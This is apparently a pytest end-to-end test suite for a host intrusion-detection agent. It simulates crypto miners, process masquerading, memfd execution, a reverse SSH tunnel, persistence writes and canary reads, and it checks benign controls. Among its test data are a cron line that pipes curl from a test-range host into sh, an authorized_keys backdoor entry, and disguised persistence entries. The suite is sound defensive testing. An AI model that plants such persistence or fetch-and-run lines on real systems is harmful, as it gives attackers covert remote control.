"""End to end: the real agent CLI as root, real processes, files, sockets and a fake pool.

One agent serves the module; every scenario acts, then polls the alert log with a deadline
for a finding of the right category tied to the right pid or path. Benign controls end
with a marker that proves the agent had seen them, then check nothing reached medium.
"""

from __future__ import annotations

import contextlib
import ctypes
import os
import secrets
import shutil
import signal
import socket
import subprocess
import sys
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from agent_harness import AgentRun, Record, severity_at_least, touches
from fakes import fake_elf_miner, fake_monero_address, free_pool_port, write_burner

pytestmark = [
    pytest.mark.root,
    pytest.mark.skipif(os.geteuid() != 0, reason="the agent's collectors need root"),
    pytest.mark.timeout(60),
]

PYTHON = os.path.realpath(sys.executable)
CLONE_NEWNET = 0x40000000
FINDING_TIMEOUT = 10.0


@pytest.fixture(scope="module")
def agent(tmp_path_factory: pytest.TempPathFactory) -> Iterator[AgentRun]:
    run = AgentRun(
        tmp_path_factory.mktemp("agent"),
        extra=f'[[runbook.jobs]]\nname = "burn-job"\nexe = "{PYTHON}"\nuser = "root"\n'
        'cmdline = ".*/burn_job\\\\.py"\n',
    )
    run.start()
    yield run
    assert run.stop() == 0, "agent did not stop cleanly:\n" + "".join(run.stderr[-40:])


def spawn(procs: list[subprocess.Popen], argv: list[str], **kw: object) -> subprocess.Popen:
    p = subprocess.Popen(argv, stdin=subprocess.DEVNULL, **kw)  # type: ignore[call-overload]
    procs.append(p)
    return p


def copy_of(src: str, dest: Path) -> Path:
    dest.parent.mkdir(parents=True, exist_ok=True)
    shutil.copy(src, dest)
    dest.chmod(0o755)
    return dest


def about(pid: int, category: str, rule: str | None = None):
    def pred(rec: Record) -> bool:
        return (
            rec["category"] == category
            and rec["process"] is not None
            and rec["process"]["pid"] == pid
            and (rule is None or rec["rule"] == rule)
        )

    return pred


def about_path(path: Path, category: str):
    def pred(rec: Record) -> bool:
        return rec["category"] == category and rec["file"] and rec["file"]["path"] == str(path)

    return pred


def kill(pid: int) -> None:
    with contextlib.suppress(ProcessLookupError):
        os.kill(pid, signal.SIGKILL)


# miners


def test_miner_with_stratum_url_to_fake_pool(agent: AgentRun, tmp_path: Path, procs) -> None:
    burner = write_burner(tmp_path / "xmrig")
    wallet = fake_monero_address()
    with free_pool_port() as pool:
        url = f"stratum+tcp://127.0.0.1:{pool.port}"
        p = spawn(procs, [str(burner), "-o", url, "-u", wallet, "--donate-level", "1"])
        name = agent.wait_for(about(p.pid, "miner", "miner.process_name"))
        assert severity_at_least(name, "high")
        assert name["process"]["ancestors"][0]["pid"] == os.getpid()
        assert agent.wait_for(about(p.pid, "miner", "miner.cmdline.stratum_url"))
        assert agent.wait_for(about(p.pid, "wallet"))["evidence"]["wallets"][0]["address"] == wallet
        net = agent.wait_for(about(p.pid, "network"), timeout=agent.interval + FINDING_TIMEOUT)
        assert net["connection"]["rport"] == pool.port and severity_at_least(net, "high")
        assert pool.logins == [wallet]


def test_dropped_miner_binary(agent: AgentRun) -> None:
    path = fake_elf_miner(agent.watch / f"kdevtmp-{secrets.token_hex(3)}")
    rec = agent.wait_for(about_path(path, "miner"))
    assert rec["file"]["sha256"] and severity_at_least(rec, "high")


def test_renamed_burner_with_pool_in_config(agent: AgentRun, procs) -> None:
    work = agent.watch / f"job-{secrets.token_hex(3)}"
    work.mkdir()
    burner = write_burner(work / "data-sync")
    with free_pool_port() as pool:
        conf = work / "config.json"
        conf.write_text(
            '{"donate-level": 1, "randomx": {"1gb-pages": true}, "pools": [{"url": '
            f'"127.0.0.1:{pool.port}", "user": "{fake_monero_address()}", "pass": "x", '
            '"keepalive": true, "nicehash": false}]}'
        )
        p = spawn(procs, [str(burner), "-c", str(conf)])
        assert agent.wait_for(about_path(conf, "miner"))
        net = agent.wait_for(about(p.pid, "network"), timeout=agent.interval + FINDING_TIMEOUT)
        assert severity_at_least(net, "medium") and net["connection"]["rport"] == pool.port


# evasion


def test_kernel_thread_masquerade(agent: AgentRun, tmp_path: Path, procs) -> None:
    sleeper = copy_of("/bin/sleep", tmp_path / "sleep")
    p = spawn(procs, ["bash", "-c", f"exec -a '[kworker/0:1]' {sleeper} 30"])
    rec = agent.wait_for(about(p.pid, "evasion", "evasion.kthread_masquerade"))
    assert rec["process"]["exe"] == str(sleeper) and severity_at_least(rec, "high")


def test_deleted_after_exec(agent: AgentRun, tmp_path: Path, procs) -> None:
    shell = copy_of("/bin/bash", tmp_path / "upd")
    # the copy deletes itself, then forks a subshell that keeps running the deleted binary
    p = spawn(procs, [str(shell), "-c", f"rm -f {shell}; (sleep 20; :) & wait"])

    def deleted(rec: Record) -> bool:
        return (
            rec["rule"] == "evasion.exec_deleted"
            and touches(rec, [p.pid])
            and rec["process"]["exe"] == str(shell)
        )

    rec = agent.wait_for(deleted)
    kill(rec["process"]["pid"])
    assert rec["category"] == "evasion"


def detached(procs: list[subprocess.Popen], tmp_path: Path, then: str) -> int:
    """Run python code `then` in a double-forked daemon re-parented to init; its pid.

    Everything a test starts here descends from a harness process that itself runs from a
    memfd; detaching keeps the engine from folding a memfd finding into that older alert.
    """
    pidfile = tmp_path / f"daemon-{secrets.token_hex(3)}.pid"
    code = (
        "import os, time\n"
        "if os.fork(): os._exit(0)\n"
        "os.setsid()\n"
        "if os.fork(): os._exit(0)\n"
        "while os.getppid() != 1: time.sleep(0.01)\n"
        f"open({str(pidfile)!r}, 'w').write(str(os.getpid()))\n"
    ) + then
    spawn(procs, [PYTHON, "-c", code]).wait(10)
    deadline = time.monotonic() + 5
    while not pidfile.exists() or not pidfile.read_text():
        assert time.monotonic() < deadline, "daemon did not start"
        time.sleep(0.02)
    return int(pidfile.read_text())


def test_memfd_exec(agent: AgentRun, tmp_path: Path, procs) -> None:
    code = (
        "fd = os.memfd_create('payload', 0)\n"
        "os.write(fd, open('/bin/sleep', 'rb').read())\n"
        "os.execve(fd, ['sleep', '30'], {})\n"
    )
    pid = detached(procs, tmp_path, code)
    try:
        rec = agent.wait_for(about(pid, "evasion", "evasion.exec_memfd"))
        assert rec["process"]["exe"].startswith("/memfd:payload")
        assert severity_at_least(rec, "high")
    finally:
        kill(pid)


# tunnels


@pytest.fixture
def blackhole_netns() -> Iterator[str]:
    """A test-made network namespace where 198.51.100.0/24 (the test range) routes to its
    loopback and never answers: ssh stays connecting, nothing leaves the namespace."""
    name = f"sentinel-test-{os.getpid()}-{secrets.token_hex(3)}"
    subprocess.run(["ip", "netns", "add", name], check=True)
    try:
        subprocess.run(["ip", "-n", name, "link", "set", "lo", "up"], check=True)
        subprocess.run(
            ["ip", "-n", name, "route", "add", "198.51.100.0/24", "dev", "lo"], check=True
        )
        yield name
    finally:
        subprocess.run(["ip", "netns", "del", name], check=False)


def in_netns(name: str):
    def enter() -> None:
        libc = ctypes.CDLL(None, use_errno=True)
        fd = os.open(f"/run/netns/{name}", os.O_RDONLY)
        if libc.setns(fd, CLONE_NEWNET) != 0:
            raise OSError(ctypes.get_errno(), "setns")
        os.close(fd)

    return enter


def test_reverse_ssh_tunnel(agent: AgentRun, blackhole_netns: str, procs) -> None:
    argv = ["ssh", "-N", "-o", "BatchMode=yes", "-o", "ConnectTimeout=20"]
    argv += ["-R", "2222:localhost:22", "user@198.51.100.5"]
    p = spawn(procs, argv, preexec_fn=in_netns(blackhole_netns), stderr=subprocess.DEVNULL)
    rec = agent.wait_for(about(p.pid, "tunnel", "tunnel.ssh_reverse"))
    assert severity_at_least(rec, "high") and "-R" in rec["process"]["cmdline"]
    assert p.poll() is None, "ssh should still be trying to connect"


# persistence and canaries


@pytest.mark.parametrize(
    ("where", "text", "rule", "level"),
    [
        (
            "etc/cron.d/update",
            "* * * * * root curl -fsSL http://198.51.100.5/u | sh\n",
            "cron",
            "high",
        ),
        (
            "etc/systemd/system/kthreadd.service",
            "[Service]\nExecStart=/var/tmp/.k/kthreadd\nRestart=always\n",
            "systemd",
            "high",
        ),
        ("home/u/.bashrc", "nohup /opt/w/sync >/dev/null 2>&1 &\n", "shell_rc", "medium"),
        ("etc/rc.local", "/opt/w/sync &\n", "init", "medium"),
        (
            "home/u/.ssh/authorized_keys",
            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE x@test\n",
            "authorized_keys",
            "medium",
        ),
    ],
)
def test_persistence(agent: AgentRun, where: str, text: str, rule: str, level: str) -> None:
    path = agent.root / where
    with path.open("a") as f:
        f.write(text)
    rec = agent.wait_for(
        lambda r: r["rule"] == f"persistence.{rule}" and r["file"]["path"] == str(path)
    )
    assert rec["category"] == "persistence" and severity_at_least(rec, level)
    assert text.splitlines()[-1] in rec["evidence"]["added"]


def test_canary_read(agent: AgentRun, procs) -> None:
    reader = [PYTHON, "-c", f"import time; open({str(agent.canary)!r}).read(); time.sleep(10)"]
    p = spawn(procs, reader)
    rec = agent.wait_for(about_path(agent.canary, "canary"))
    assert severity_at_least(rec, "high")
    assert rec["process"] is not None and rec["process"]["pid"] == p.pid


# daemons


def test_new_detached_daemon(agent: AgentRun, tmp_path: Path, procs) -> None:
    pid = detached(procs, tmp_path, "time.sleep(30)\n")
    try:
        rec = agent.wait_for(
            about(pid, "daemon", "daemon.new_detached"), agent.min_age + FINDING_TIMEOUT
        )
        assert rec["severity"] in ("low", "medium")
    finally:
        kill(pid)


# benign controls


def marker(agent: AgentRun, tmp_path: Path, procs) -> None:
    """A process and a file the agent must report; once both are in the log, everything
    started or written before them has been through the detectors."""
    where = tmp_path / f"marker-{secrets.token_hex(3)}"
    where.mkdir()
    miner = write_burner(where / "xmrig")
    # through a shell of its own: the engine folds same-exe siblings of one parent into one
    # incident, and every burner here is the python interpreter under this test process
    shell = spawn(
        procs, ["bash", "-c", f"{miner}; exit 0"], env={**os.environ, "BURN_SECONDS": "3"}
    )
    dropped = fake_elf_miner(agent.watch / f"marker-{secrets.token_hex(3)}")
    rec = agent.wait_for(lambda r: r["rule"] == "miner.process_name" and touches(r, [shell.pid]))
    kill(rec["process"]["pid"])
    agent.wait_for(about_path(dropped, "miner"))
    time.sleep(agent.interval * 2)


def assert_quiet(agent: AgentRun, pids: list[int], under: Path | None = None) -> None:
    loud = [
        (r["rule"], r["severity"], r["summary"])
        for r in agent.records()
        if severity_at_least(r, "medium") and touches(r, pids, str(under) if under else None)
    ]
    assert loud == []


def test_control_compile(agent: AgentRun, tmp_path: Path, procs) -> None:
    work = agent.watch / f"build-{secrets.token_hex(3)}"
    work.mkdir()
    (work / "hello.c").write_text('#include <stdio.h>\nint main(void) { puts("hi"); return 0; }\n')
    gcc = spawn(procs, ["gcc", "-O2", "-o", str(work / "hello"), str(work / "hello.c")])
    assert gcc.wait(30) == 0
    marker(agent, tmp_path, procs)
    assert_quiet(agent, [gcc.pid], work)


def tiny_wheel(dest: Path) -> Path:
    """A pure-python wheel built by hand, so pip needs no index and no build backend."""
    wheel = dest / "tinypkg-0.1-py3-none-any.whl"
    files = {
        "tinypkg/__init__.py": "VALUE = 42\n",
        "tinypkg-0.1.dist-info/METADATA": "Metadata-Version: 2.1\nName: tinypkg\nVersion: 0.1\n",
        "tinypkg-0.1.dist-info/WHEEL": (
            "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        ),
    }
    record = "".join(f"{name},,\n" for name in files) + "tinypkg-0.1.dist-info/RECORD,,\n"
    with zipfile.ZipFile(wheel, "w") as z:
        for name, text in files.items():
            z.writestr(name, text)
        z.writestr("tinypkg-0.1.dist-info/RECORD", record)
    return wheel


def test_control_pip_install_into_venv(agent: AgentRun, tmp_path: Path, procs) -> None:
    venv = agent.watch / f"venv-{secrets.token_hex(3)}"
    mk = spawn(procs, [sys.executable, "-m", "venv", "--without-pip", str(venv)])
    assert mk.wait(60) == 0
    target = str(venv / "bin" / "python")
    install = ["install", "-q", "--no-index", "--no-deps", str(tiny_wheel(tmp_path))]
    # this interpreter's pip, installing into the new venv
    pip = spawn(procs, [sys.executable, "-m", "pip", "--python", target, *install])
    assert pip.wait(120) == 0
    probe = [target, "-c", "import tinypkg; assert tinypkg.VALUE == 42"]
    assert subprocess.run(probe, check=False, timeout=30).returncode == 0
    marker(agent, tmp_path, procs)
    assert_quiet(agent, [mk.pid, pip.pid], venv)


def test_control_ssh_local_forward_to_localhost(agent: AgentRun, tmp_path: Path, procs) -> None:
    silent = socket.socket()
    silent.bind(("127.0.0.1", 0))
    silent.listen(4)
    port = silent.getsockname()[1]
    base = ["ssh", "-N", "-o", "BatchMode=yes", "-o", "ConnectTimeout=15", "-p", str(port)]
    try:
        local = spawn(
            procs, [*base, "-L", "8080:localhost:80", "127.0.0.1"], stderr=subprocess.DEVNULL
        )
        remote = spawn(
            procs, [*base, "-L", "8081:10.9.8.7:80", "127.0.0.1"], stderr=subprocess.DEVNULL
        )
        rec = agent.wait_for(about(remote.pid, "tunnel", "tunnel.ssh_forward"))
        assert severity_at_least(rec, "medium")
        marker(agent, tmp_path, procs)
        assert local.poll() is None
        assert_quiet(agent, [local.pid])
    finally:
        silent.close()


def test_control_runbook_job_at_full_cpu(agent: AgentRun, tmp_path: Path, procs) -> None:
    job = tmp_path / "burn_job.py"
    job.write_text("import time\nend = time.time() + 4\nwhile time.time() < end:\n    pass\n")
    p = spawn(procs, [PYTHON, str(job)])
    assert p.wait(30) == 0
    marker(agent, tmp_path, procs)
    assert_quiet(agent, [p.pid])


def test_control_setproctitle_renames(agent: AgentRun, tmp_path: Path, procs) -> None:
    # daemons installed by hand (/opt, root's): a program named like a system daemon in a
    # temp dir is a masquerade by path (tests/integration/test_agent_exec_evasion.py)
    opt = Path("/opt") / f"sentinel-ctl-{os.getpid()}-{secrets.token_hex(3)}"
    try:
        postgres = copy_of("/bin/sleep", opt / "pg" / "postgres")
        nginx = copy_of("/bin/sleep", opt / "ng" / "nginx")
        pg = spawn(procs, ["bash", "-c", f"exec -a 'postgres: checkpointer' {postgres} 30"])
        ng = spawn(procs, ["bash", "-c", f"exec -a 'nginx: worker process' {nginx} 30"])
        fake = spawn(procs, ["bash", "-c", f"exec -a 'sshd: root@pts/0' {nginx} 30"])
        rec = agent.wait_for(about(fake.pid, "evasion", "evasion.name_masquerade"))
        assert severity_at_least(rec, "high")
        marker(agent, tmp_path, procs)
        assert_quiet(agent, [pg.pid, ng.pid])
    finally:
        shutil.rmtree(opt, ignore_errors=True)
